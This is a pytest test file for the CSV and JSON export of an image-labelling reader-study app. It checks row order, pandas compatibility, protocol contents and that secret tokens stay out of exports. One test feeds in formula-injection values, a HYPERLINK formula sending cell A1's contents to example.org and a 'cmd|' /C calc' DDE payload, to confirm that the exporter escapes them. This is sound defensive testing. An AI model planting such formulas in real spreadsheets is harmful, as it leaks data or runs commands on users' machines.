"""What leaves: readable by others, whole, and no formula."""

import csv
import json
from dataclasses import replace
from io import StringIO

import pandas as pd
import pytest

import app
from app.reviews import answers, export, links, studies
from app.reviews.agreement import CANNOT_TELL
from app.reviews.database import Database
from app.reviews.designs import Choice

from .reading import DESIGN, answer, make_reader, make_study


def read(db: Database, study: studies.Study) -> list[dict[str, str]]:
    text = "".join(export.answers_csv(db, study))
    return list(csv.DictReader(StringIO(text, newline="")))


def test_every_answer_is_a_row_in_the_order_it_came_in(db: Database) -> None:
    study = make_study(db, replace(DESIGN, ask_confidence=True, repeats=0.5))
    reader = make_reader(db, study, 'Müller, A. "Ada"')
    order = studies.order(study, reader)
    again = next(place for place in order if place.is_repeat)
    first = answers.record(db, reader, 2, 0, 4, 1_500, "abcdefgh")
    answers.record(db, reader, 2, CANNOT_TELL, 1, 99, "abcdefghi")
    answers.record(db, reader, again.number, 1, 5, 7, "abcdefghij")
    rows = read(db, study)
    item = studies.items_of(db, study)[order[2].item]
    assert rows[0] == {
        "reader": 'Müller, A. "Ada"',
        "reader_id": str(reader.id),
        "place": "2",
        "item": str(item.number),
        "split": item.split,
        "index": str(item.index),
        "stored_label": str(item.label),
        "stored_choice": study.design.choices[item.number % 2].name,
        "repeat": "0",
        "old": "",
        "new": "malignant",
        "confidence": "4",
        "ms": "1500",
        "when": first.made.strftime("%Y-%m-%dT%H:%M:%S.%fZ"),
    }
    assert [(row["old"], row["new"], row["repeat"]) for row in rows[1:]] == [
        ("malignant", "cannot tell", "0"),
        ("", "normal, benign", "1"),
    ]


def test_pandas_reads_the_table(db: Database) -> None:
    study = make_study(db)
    reader = make_reader(db, study)
    for place in range(12):
        answer(db, reader, place, place % 2)
    table = pd.read_csv(StringIO("".join(export.answers_csv(db, study))))
    assert tuple(table.columns) == export.COLUMNS
    assert table["new"].tolist() == ["malignant", "normal, benign"] * 6
    assert table["index"].dtype == "int64"
    assert str(pd.to_datetime(table["when"]).dt.tz) == "UTC"


def test_rows_of_more_than_one_part_are_all_there_once(
    db: Database, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(export, "_ROWS", 5)
    study = make_study(db)
    for name in ("Ada", "Bob"):
        reader = make_reader(db, study, name)
        for place in range(8):
            answer(db, reader, place, 0)
    rows = read(db, study)
    assert [(row["reader"], row["place"]) for row in rows] == [
        (name, str(place)) for name in ("Ada", "Bob") for place in range(8)
    ]


def test_a_study_without_answers_is_a_heading(db: Database) -> None:
    assert "".join(export.answers_csv(db, make_study(db))) == ",".join(export.COLUMNS) + "\r\n"


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r", "\n", "\uff1d", "\uff0b"])
def test_no_text_is_taken_for_a_formula(start: str) -> None:
    assert export.safe_cell(f"{start}1+1") == f"'{start}1+1"


def test_texts_of_a_study_are_no_formulas_and_numbers_stay_numbers(db: Database) -> None:
    hostile = '=HYPERLINK("http://example.org?"&A1;"x")'
    design = replace(DESIGN, choices=(Choice(hostile, -1), Choice("@SUM(1)", 1)))
    study = make_study(db, design)
    reader = make_reader(db, study, "-2+3+cmd|' /C calc'!A0")
    answer(db, reader, 0, 0)
    answer(db, reader, 0, 1)
    row = read(db, study)[1]
    assert row["reader"] == "'-2+3+cmd|' /C calc'!A0"
    assert row["old"] == f"'{hostile}"
    assert row["new"] == "'@SUM(1)"
    assert not any(cell.startswith(("=", "+", "-", "@")) for cell in row.values())


def test_a_label_below_zero_is_the_same_number_wherever_it_stands(db: Database) -> None:
    study = make_study(db, replace(DESIGN, choices=(Choice("-1", 0), Choice("-1+1", 1))))
    reader = make_reader(db, study)
    for place in range(12):
        answer(db, reader, place, 0)
    table = pd.read_csv(StringIO("".join(export.answers_csv(db, study))))
    assert set(table["new"]) == {-1}
    assert set(table["stored_choice"]) == {"-1", "'-1+1"}


def test_the_protocol_is_the_whole_study(db: Database) -> None:
    design = replace(DESIGN, repeats=0.5, practice=2, ask_confidence=True)
    design = replace(design, source="/d/breastmnist?split=val", drawn_from=78, per_label=6)
    study = make_study(db, design)
    ada, bob = make_reader(db, study), make_reader(db, study, "Bob")
    given = [answers.record(db, ada, 3, choice, 2, 1_500, f"the-key-{choice}") for choice in (1, 0)]
    studies.close(db, study.id)
    found = json.loads(export.protocol_json(db, study))
    assert found["program"] == f"Lightbox {app.__version__}"
    assert found["study"] | {"made": 0, "closed": 0} == {
        "id": study.id,
        "title": "Breast",
        "dataset": "breastmnist",
        "content": design.content,
        "question": "What do you see?",
        "ordinal": False,
        "ask_confidence": True,
        "repeats": 0.5,
        "practice": 2,
        "seed": 3,
        "source": "/d/breastmnist?split=val",
        "drawn_from": 78,
        "per_label": 6,
        "made": 0,
        "closed": 0,
    }
    assert found["study"]["closed"] is not None
    assert found["cannot_tell"] == CANNOT_TELL
    assert found["choices"] == [
        {"number": 0, "name": "malignant", "value": 0},
        {"number": 1, "name": "normal, benign", "value": 1},
    ]
    assert found["items"] == [
        {
            "number": item.number,
            "split": item.split,
            "index": item.index,
            "label": item.label,
            "practice": item.number in study.practice_items,
        }
        for item in studies.items_of(db, study)
    ]
    assert [person["name"] for person in found["readers"]] == ["Ada", "Bob"]
    for person, reader in zip(found["readers"], (ada, bob), strict=True):
        assert person["order"] == [
            {"place": place.number, "item": place.item, "repeat": place.is_repeat}
            for place in studies.order(study, reader)
        ]
    assert [a["id"] for a in found["readers"][0]["answers"]] == [a.id for a in given]
    assert [a["when"] for a in found["readers"][0]["answers"]] == [
        a.made.strftime("%Y-%m-%dT%H:%M:%S.%fZ") for a in given
    ]
    assert [(a["old"], a["new"]) for a in found["readers"][0]["answers"]] == [(None, 1), (1, 0)]
    assert found["readers"][1]["answers"] == []


def test_a_time_that_was_not_taken_is_no_time(db: Database) -> None:
    study = make_study(db)
    reader = make_reader(db, study)
    for place, taken in enumerate((0, 1_500)):
        answers.record(db, reader, place, 0, None, taken, f"the-key-{place}")
    table = pd.read_csv(StringIO("".join(export.answers_csv(db, study))))
    assert table["ms"].mean() == 1_500
    (person,) = json.loads(export.protocol_json(db, study))["readers"]
    assert [answer["ms"] for answer in person["answers"]] == [None, 1_500]


def test_no_secret_leaves_with_the_protocol(db: Database) -> None:
    study = make_study(db)
    token, link = studies.add_reader(db, study, "Ada")
    text = export.protocol_json(db, study) + "".join(export.answers_csv(db, study))
    assert links.find(db, token, db.now()) == link
    assert token not in text
    assert link.secret not in text
